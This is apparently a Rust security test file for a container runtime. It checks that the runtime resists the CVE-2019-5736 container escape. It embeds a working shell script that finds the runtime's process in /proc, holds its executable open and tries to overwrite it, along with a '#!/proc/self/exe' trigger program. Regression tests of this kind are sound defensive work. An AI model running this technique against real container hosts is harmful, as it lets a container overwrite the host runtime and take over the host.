//! Attacks on the runtime's own file.

use support::for_users;

use crate::attempt::fails;
use crate::harness::Bundle;

/// Finds a process of the runtime in the container, holds its program, lets the process end, and
/// writes to the program, also after an attempt to make its mount writable.
const OVERWRITE: &str = r#"
echo ready
while :; do
    for dir in /proc/[0-9]*; do
        exe=$(readlink $dir/exe) || continue
        case $exe in */busybox) continue;; esac
        exec 3<$dir/exe && break 2
    done
done 2>/dev/null
cat /log >/dev/null &
tries=0
while [ $tries -lt 100 ]; do
    tries=$((tries + 1))
    mount -o remount,bind,rw none /proc/self/fd/3 2>/dev/null
    if (echo overwritten >/proc/self/fd/3) 2>/dev/null; then break; fi
    usleep 10000
done
echo end
sleep 60
"#;

for_users! {
    /// CVE-2019-5736 of runc: an image's program is `#!/proc/self/exe`, so that what `exec` starts
    /// in the container is the runtime itself, whose file is then written to by way of
    /// `/proc/PID/exe`. It is made to wait by a log file that is a pipe.
    fn overwritten_by_its_container(world) as [root, subids, plain] {
        fails(world, "Program", |attempt| {
            let mut bundle = Bundle::with_script(world, OVERWRITE);
            let caps = ["CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE", "CAP_SYS_PTRACE"];
            bundle.capabilities(&caps);
            bundle.write_program("rootfs/bin/evil", "#!/proc/self/exe --log=/log\n");
            crate::rootfs::make_fifo(&bundle, "rootfs/log");
            // The caller's own, as far as the caller's account goes.
            let original = std::fs::read(attempt.program()).expect("read the program");
            let copy = bundle.path("sandcrab-oci");
            // By another process: a file that any of ours has open for writing can't be executed.
            world.command("cp").arg(attempt.program()).arg(&copy).ok();

            let container = bundle.container();
            container.create_by(attempt.command_by(&copy, &["create"]), &[]).success();
            container.start();
            container.wait_for("ready");
            attempt.command_by(&copy, &["exec", &container.id, "/bin/evil"]).run();
            container.wait_for("end");
            std::fs::read(&copy).expect("read the copy") != original
        });
    }
}
